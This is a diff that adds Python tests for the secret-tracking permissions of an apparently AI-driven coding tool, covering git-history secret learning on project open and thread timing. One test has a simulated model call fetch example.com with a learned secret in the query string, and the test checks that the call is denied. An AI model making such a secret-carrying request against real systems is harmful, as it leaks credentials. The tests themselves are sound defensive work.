@@ -145,3 +145,77 @@ def test_git_commands_that_print_no_content_do_not_label(service, repository, tm
     service.learn_secrets(repository, home=tmp_path / "home")
     tracking = _track(db, service, repository, command, "ok")
     assert not tracking.flow.has(FlowLabel.READ_SENSITIVE)
+
+
+# -- read when the project is opened -------------------------------------------------------
+
+def test_opening_the_project_starts_the_history_read(db, fresh_data_dir, repository, tmp_path,
+                                                     monkeypatch):
+    """File → Open Folder starts the read in a worker thread, so the first model call does not
+    wait seconds for git."""
+    import asyncio
+    import threading
+
+    from app.core.permissions import history_secrets
+    from app.core.services import build_services
+
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    started = threading.Event()
+    readers: list[str] = []
+    real = history_secrets.learn_history_secrets
+
+    def recording(matcher, root, sensitive):
+        readers.append(threading.current_thread().name)
+        learnt = real(matcher, root, sensitive)
+        started.set()
+        return learnt
+
+    monkeypatch.setattr(history_secrets, "learn_history_secrets", recording)
+    services = build_services(db, fresh_data_dir)
+    assert not readers  # no project yet: nothing read
+    asyncio.run(services.open_project(repository))
+    assert started.wait(30), "opening the project did not read its git history"
+    assert readers == ["learn-secrets"]  # a worker thread, not the caller's
+    assert services.permissions.known_secrets.scan(f"d={SECRET}")
+    services.permissions.learn_secrets(repository)  # what the first model call does
+    assert readers == ["learn-secrets"]  # read once
+
+
+def test_a_send_before_the_history_read_ends_waits_for_it(service, repository, tmp_path,
+                                                          monkeypatch):
+    """The first model call's ``learn_secrets`` returns only once the read the opening started
+    has ended, so a call sending the history's secret out is refused, never let through."""
+    import threading
+
+    from app.core.permissions import history_secrets
+
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    entered, release = threading.Event(), threading.Event()
+    real = history_secrets.learn_history_secrets
+
+    def slow(matcher, root, sensitive):
+        entered.set()
+        assert release.wait(30)
+        return real(matcher, root, sensitive)
+
+    monkeypatch.setattr(history_secrets, "learn_history_secrets", slow)
+    service.start_learning_secrets(repository)
+    assert entered.wait(30)
+    decisions: list[Decision] = []
+    finished = threading.Event()
+
+    def first_model_call() -> None:
+        service.learn_secrets(repository)
+        decisions.append(fetch(service, repository, f"https://example.com/?d={SECRET}"))
+        finished.set()
+
+    caller = threading.Thread(target=first_model_call)
+    caller.start()
+    try:
+        # Still reading: the call must not have been decided yet (it would be allowed).
+        assert not finished.wait(0.5)
+        assert not decisions
+    finally:
+        release.set()
+        caller.join(30)
+    assert [d.kind for d in decisions] == ["deny"]
